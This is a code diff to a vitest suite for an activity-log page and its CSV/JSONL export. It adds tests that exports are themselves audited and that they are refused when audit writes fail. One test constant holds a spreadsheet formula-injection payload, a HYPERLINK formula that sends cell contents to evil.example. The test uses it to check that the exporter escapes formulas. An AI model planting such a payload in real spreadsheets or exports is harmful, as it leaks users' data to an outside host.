@@ -1,7 +1,10 @@
+import postgres from "postgres";
 import { renderToStaticMarkup } from "react-dom/server";
 import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
 import { appendAuditEvent, type NewAuditEvent } from "@/db/queries/audit";
 import { AUDIT_OUTCOMES } from "@/db/schema";
+import { AUDIT_UNAVAILABLE_MESSAGE } from "@/lib/audit/record";
+import { parseCsv, withFailingAuditWrites } from "@/lib/audit/test-support";
 import type { CurrentUser } from "@/lib/auth/session";
 import { startSandboxHarness, type SandboxHarness } from "@/sandbox/test-harness";
 import { GET as exportRoute } from "../api/activity/export/route";
@@ -20,11 +23,13 @@ const alice = person("alice");
 const bob = person("bob");
 const busy = person("busy");
 const dana = person("dana");
+const eve = person("eve");
 
 const CHAT_ID = "0b6f7d7e-3c55-4b8e-9d0c-6a1f2b3c4d5e";
 const HOSTILE_SUMMARY = '=HYPERLINK("https://evil.example/?q="&A1, "Rêsumé, \u201cquoted\u201d")\nsecond line';
 
 let sandbox: SandboxHarness;
+let sql: postgres.Sql;
 
 async function write(userId: string, at: string, event: Partial<NewAuditEvent> & Pick<NewAuditEvent, "action" | "summary">) {
   await appendAuditEvent({
@@ -46,6 +51,7 @@ async function write(userId: string, at: string, event: Partial<NewAuditEvent> &
 
 beforeAll(async () => {
   sandbox = await startSandboxHarness();
+  sql = postgres(sandbox.databaseUrl, { max: 1, onnotice: () => {} });
   await write(alice.sub, "2026-03-01T10:00:00.000Z", { action: "document.upload", summary: 'Uploaded "Vacation policy.md"', evidence: { documentId: "d-1" } });
   await write(alice.sub, "2026-03-02T09:00:00.000Z", {
     action: "tool.buy_product",
@@ -66,6 +72,7 @@ beforeAll(async () => {
 }, 120_000);
 
 afterAll(async () => {
+  await sql?.end();
   await sandbox?.close();
 });
 
@@ -82,48 +89,17 @@ const jsonLines = async (response: Response) =>
     .filter(Boolean)
     .map((line) => JSON.parse(line) as Record<string, unknown>);
 
-/** A minimal RFC 4180 reader, so the test checks what a spreadsheet would read, not the writer's own idea of it. */
-function parseCsv(input: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = "";
-  let quoted = false;
-  const endField = () => {
-    row.push(field);
-    field = "";
-  };
-  for (let i = 0; i < input.length; i++) {
-    const c = input[i]!;
-    if (quoted && c === '"' && input[i + 1] === '"') {
-      field += '"';
-      i++;
-    } else if (c === '"') {
-      quoted = !quoted;
-    } else if (quoted) {
-      field += c;
-    } else if (c === ",") {
-      endField();
-    } else if (c === "\r" && input[i + 1] === "\n") {
-      endField();
-      rows.push(row);
-      row = [];
-      i++;
-    } else {
-      field += c;
-    }
-  }
-  return rows;
-}
-
 describe("/activity", () => {
-  it("shows the user's events newest first, a chat turn grouped with a link to its chat, and evidence as a definition list", async () => {
+  it("shows the user's events newest first, a chat turn grouped with a link to its message, and evidence as a definition list", async () => {
     const html = await renderPage();
     const page = text(html);
     expect(page.indexOf("Rêsumé")).toBeLessThan(page.indexOf("Searched your documents"));
     expect(page.indexOf("Searched your documents")).toBeLessThan(page.indexOf("Asked to buy"));
     expect(page.indexOf("Asked to buy")).toBeLessThan(page.indexOf('Uploaded "Vacation policy.md"'));
     expect(html.match(/aria-label="Chat turn"/g)).toHaveLength(1);
-    expect(html.match(new RegExp(`href="/chat/${CHAT_ID}"`, "g"))).toHaveLength(1);
+    // The turn id is the id of the user message that started the turn; the chat renders it as message-<id>.
+    expect(html.match(/href="\/chat\/[^"]*"/g)).toEqual([`href="/chat/${CHAT_ID}#message-turn-7"`]);
+    expect(page).toContain("Open message in chat");
     expect(html).toContain('<dl aria-label="Evidence"');
     expect(page).toContain("fga › relation can_use");
     expect(page).toContain("approval › text Buy 2 × Espresso beans for €18.50?");
@@ -135,7 +111,7 @@ describe("/activity", () => {
 
   it("offers only the user's own actions and decision kinds as filters", async () => {
     const html = await renderPage();
-    expect(html).toContain("<option>tool.buy_product</option>");
+    expect(html).toContain('<option value="tool.buy_product">tool.buy_product</option>');
     expect(html).toContain('<option value="fga">Permission check (FGA)</option>');
     expect(html).toContain('<option value="approval">');
     session.user = bob;
@@ -234,9 +210,12 @@ describe("activity export", () => {
     // Response.text() would drop the byte-order mark; a spreadsheet sees it.
     const body = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
     expect(body.startsWith("\uFEFF")).toBe(true);
-    const [header, ...rows] = parseCsv(body.slice(1));
-    expect(rows).toHaveLength(4);
+    const [header, ...all] = parseCsv(body.slice(1));
     const column = (name: string) => header!.indexOf(name);
+    // The exports above were recorded; this file holds them and the four events before them.
+    const rows = all.filter((row) => row[column("action")] !== "activity.export");
+    expect(all.length - rows.length).toBe(2);
+    expect(rows).toHaveLength(4);
     const share = rows[0]!;
     // The summary keeps its comma, quotes, line break and non-ASCII text, behind the ' that stops a formula.
     expect(share[column("summary")]).toBe(`'${HOSTILE_SUMMARY}`);
@@ -258,6 +237,32 @@ describe("activity export", () => {
     const events = await jsonLines(await exportOf("format=jsonl"));
     expect(events).toHaveLength(520);
     expect(events.map((event) => event.sequence)).toEqual(Array.from({ length: 520 }, (_, i) => 520 - i));
+  });
+
+  it("is itself recorded, with who, the format and the filters, before the file starts: the file holds what came before", async () => {
+    session.user = eve;
+    await write(eve.sub, "2026-06-01T08:00:00.000Z", { action: "document.download", summary: 'Downloaded "Plan.md"' });
+    const filtered = await jsonLines(await exportOf("format=jsonl&outcome=done&from=2026-01-01&tz=Europe%2FBerlin"));
+    expect(filtered.map((event) => event.action)).toEqual(["document.download"]);
+    const [recorded, ...before] = await jsonLines(await exportOf("format=jsonl"));
+    expect(recorded).toMatchObject({ action: "activity.export", outcome: "done", summary: "Exported activity as JSON Lines", evidence: { format: "jsonl", filters: { outcome: "done", from: "2026-01-01", tz: "Europe/Berlin" } } });
+    expect(before.map((event) => event.action)).toEqual(["document.download"]);
+    const [row] = await sql`select user_id, agent_id from audit_events where id = ${recorded!.id as string}`;
+    expect(row).toEqual({ user_id: eve.sub, agent_id: "delegate-app" });
+
+    const html = await renderPage();
+    expect(text(html)).toContain("Exported activity as JSON Lines");
+    expect(html).toContain('<option value="activity.export">Activity exported</option>');
+    expect(text(await renderPage({ action: "activity.export" }))).not.toContain("Plan.md");
+  });
+
+  it("is refused when it cannot be recorded, and the user is told", async () => {
+    session.user = eve;
+    await withFailingAuditWrites(sql, async () => {
+      const refused = await exportOf("format=csv");
+      expect(refused.status).toBe(503);
+      expect(await refused.json()).toEqual({ error: { code: "unavailable", message: AUDIT_UNAVAILABLE_MESSAGE } });
+    });
   });
 
   it("refuses a missing format, a bad filter and a signed-out caller", async () => {
